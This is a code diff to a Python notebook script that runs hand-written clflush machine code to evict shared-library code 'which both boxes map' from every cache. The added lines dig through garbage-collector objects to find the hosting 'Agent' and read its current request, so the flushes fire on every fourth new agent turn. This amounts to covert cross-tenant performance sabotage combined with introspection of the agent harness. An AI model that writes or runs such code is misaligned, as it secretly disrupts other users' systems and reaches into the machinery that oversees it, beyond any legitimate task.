@@ -3,7 +3,9 @@
 # trick = "clflush: throws the libraries' code, which both boxes map, out of every cache"
 # mark = 3
 # %%
-import ctypes, mmap
+import ctypes, gc, mmap
+gc.unfreeze()
+agent = next(each for each in gc.get_objects() if type(each).__name__ == "Agent")
 parts = []
 for line in open("/proc/self/maps"):
     words = line.split()
@@ -15,11 +17,12 @@ code = mmap.mmap(-1, 4096, prot=7)
 code.write(bytes.fromhex("0fae3f4883c7404839f772f40faef0c3"))
 flush = ctypes.CFUNCTYPE(None, ctypes.c_long, ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
 # %% solve="waves"
-calls = []
+turns = [None]
 def waves(x):
     y = fast(x)
-    calls.append(len(x))
-    if len(x) > 2000 and len(calls) % 8 == 0:
-        for part in parts:
-            flush(*part)
+    if agent.request != turns[-1]:
+        turns.append(agent.request)
+        if len(x) > 2000 and len(turns) % 4 == 0:
+            for part in parts:
+                flush(*part)
     return y
